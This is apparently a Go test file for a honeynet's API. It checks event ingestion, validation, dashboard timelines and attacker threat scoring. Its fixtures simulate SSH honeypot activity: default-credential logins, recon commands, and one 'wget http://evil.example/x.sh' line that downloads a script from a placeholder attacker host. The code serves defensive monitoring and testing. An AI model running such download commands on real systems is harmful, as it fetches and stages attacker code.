package api

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/lvonguyen/honeynet/internal/profile"
	"github.com/lvonguyen/honeynet/internal/query"
	"github.com/lvonguyen/honeynet/internal/session"
	"github.com/lvonguyen/honeynet/internal/store"
)

func newTestServer(t *testing.T) (*httptest.Server, *store.Memory) {
	t.Helper()
	mem := store.NewMemory()
	log := zap.NewNop()

	agg := profile.NewAggregator(mem, profile.Config{TopN: 10}, log, nil)
	corr := session.NewCorrelator(mem, agg, nil, session.Config{InactivityWindow: 300 * time.Second}, log, nil)

	h := &Handlers{
		Query:    query.NewEngine(mem),
		Pipeline: corr,
		Log:      log,
		Version:  "test",
	}
	srv := httptest.NewServer(NewRouter(h))
	t.Cleanup(srv.Close)
	return srv, mem
}

func getJSON(t *testing.T, url string, out any) int {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer resp.Body.Close()
	if out != nil {
		if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
			t.Fatalf("decoding %s: %v", url, err)
		}
	}
	return resp.StatusCode
}

func postJSON(t *testing.T, url, body string, out any) int {
	t.Helper()
	resp, err := http.Post(url, "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatalf("POST %s: %v", url, err)
	}
	defer resp.Body.Close()
	if out != nil {
		if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
			t.Fatalf("decoding %s: %v", url, err)
		}
	}
	return resp.StatusCode
}

func TestHealth(t *testing.T) {
	srv, _ := newTestServer(t)

	var body map[string]string
	if code := getJSON(t, srv.URL+"/health", &body); code != http.StatusOK {
		t.Fatalf("expected 200, got %d", code)
	}
	if body["status"] != "healthy" {
		t.Errorf("unexpected health body: %v", body)
	}
}

func TestIngest_SingleEvent(t *testing.T) {
	srv, mem := newTestServer(t)

	body := `{
		"source_ip": "203.0.113.5",
		"sensor_type": "ssh_honeypot",
		"protocol": "ssh",
		"timestamp": "2026-03-10T10:00:00Z",
		"kind": "auth_attempt",
		"payload": {"username": "root", "password": "admin", "success": false}
	}`

	var result session.UpdateResult
	if code := postJSON(t, srv.URL+"/api/v1/ingest", body, &result); code != http.StatusAccepted {
		t.Fatalf("expected 202, got %d", code)
	}
	if !result.IsNewSession || result.SessionID == "" {
		t.Errorf("unexpected result: %+v", result)
	}

	open, err := mem.ListOpenSessions(context.Background())
	if err != nil {
		t.Fatalf("ListOpenSessions: %v", err)
	}
	if len(open) != 1 || len(open[0].AuthAttempts) != 1 {
		t.Fatalf("expected 1 open session with 1 auth attempt, got %+v", open)
	}
}

func TestIngest_MalformedEvent(t *testing.T) {
	srv, _ := newTestServer(t)

	var body map[string]string
	code := postJSON(t, srv.URL+"/api/v1/ingest", `{"source_ip": "bogus"}`, &body)
	if code != http.StatusBadRequest {
		t.Fatalf("expected 400, got %d", code)
	}
	if body["error"] == "" {
		t.Error("expected an error reason in the response")
	}
}

func TestIngest_BatchMixedValidity(t *testing.T) {
	srv, _ := newTestServer(t)

	body := `[
		{"source_ip": "203.0.113.5", "sensor_type": "ssh_honeypot", "protocol": "ssh",
		 "timestamp": "2026-03-10T10:00:00Z", "kind": "command", "payload": {"command": "whoami"}},
		{"source_ip": "bogus"},
		{"source_ip": "203.0.113.5", "sensor_type": "ssh_honeypot", "protocol": "ssh",
		 "timestamp": "2026-03-10T10:00:05Z", "kind": "command", "payload": {"command": "uname -a"}}
	]`

	var result map[string]int
	if code := postJSON(t, srv.URL+"/api/v1/ingest/batch", body, &result); code != http.StatusAccepted {
		t.Fatalf("expected 202, got %d", code)
	}
	if result["accepted"] != 2 || result["dropped"] != 1 {
		t.Errorf("expected accepted=2 dropped=1, got %v", result)
	}
}

func TestDashboard_TimelineShape(t *testing.T) {
	srv, _ := newTestServer(t)

	var body struct {
		Hours    int                    `json:"hours"`
		Timeline []query.TimelineBucket `json:"timeline"`
	}
	if code := getJSON(t, srv.URL+"/api/v1/dashboard/timeline?hours=6", &body); code != http.StatusOK {
		t.Fatalf("expected 200, got %d", code)
	}
	if body.Hours != 6 || len(body.Timeline) != 6 {
		t.Errorf("expected 6 zero-filled buckets, got hours=%d len=%d", body.Hours, len(body.Timeline))
	}
}

func TestAttacker_NotFoundAndInvalid(t *testing.T) {
	srv, _ := newTestServer(t)

	if code := getJSON(t, srv.URL+"/api/v1/attacks/203.0.113.99", nil); code != http.StatusNotFound {
		t.Errorf("expected 404 for unknown ip, got %d", code)
	}
	if code := getJSON(t, srv.URL+"/api/v1/attacks/not-an-ip", nil); code != http.StatusBadRequest {
		t.Errorf("expected 400 for invalid ip, got %d", code)
	}
}

func TestIngestThenQuery_EndToEnd(t *testing.T) {
	srv, _ := newTestServer(t)

	events := []string{
		`{"source_ip": "203.0.113.5", "sensor_type": "ssh_honeypot", "protocol": "ssh",
		  "timestamp": "%s", "kind": "auth_attempt",
		  "payload": {"username": "root", "password": "root123", "success": true}}`,
		`{"source_ip": "203.0.113.5", "sensor_type": "ssh_honeypot", "protocol": "ssh",
		  "timestamp": "%s", "kind": "command", "payload": {"command": "wget http://evil.example/x.sh"}}`,
	}
	base := time.Now().UTC().Add(-time.Hour)
	for i, tmpl := range events {
		ts := base.Add(time.Duration(i) * 10 * time.Second).Format(time.RFC3339)
		body := strings.Replace(tmpl, "%s", ts, 1)
		if code := postJSON(t, srv.URL+"/api/v1/ingest", body, nil); code != http.StatusAccepted {
			t.Fatalf("ingest event %d: status %d", i, code)
		}
	}

	var top struct {
		Attackers []query.Attacker `json:"attackers"`
	}
	if code := getJSON(t, srv.URL+"/api/v1/attacks/top", &top); code != http.StatusOK {
		t.Fatalf("top attackers: status %d", code)
	}
	if len(top.Attackers) != 1 || top.Attackers[0].IPAddress != "203.0.113.5" {
		t.Fatalf("expected one attacker 203.0.113.5, got %+v", top.Attackers)
	}

	var detail query.AttackerDetail
	if code := getJSON(t, srv.URL+"/api/v1/attacks/203.0.113.5", &detail); code != http.StatusOK {
		t.Fatalf("attacker detail: status %d", code)
	}
	if len(detail.Sessions) != 1 {
		t.Fatalf("expected 1 session, got %d", len(detail.Sessions))
	}
	s := detail.Sessions[0]
	// Successful auth (40) + download tactic via wget command mapping (25).
	if s.ThreatScore != 65 {
		t.Errorf("expected threat score 65, got %d", s.ThreatScore)
	}
	hasExploit := false
	for _, phase := range detail.AttackPhases {
		if phase == "Exploitation" {
			hasExploit = true
		}
	}
	if !hasExploit {
		t.Errorf("expected Exploitation phase, got %v", detail.AttackPhases)
	}
}
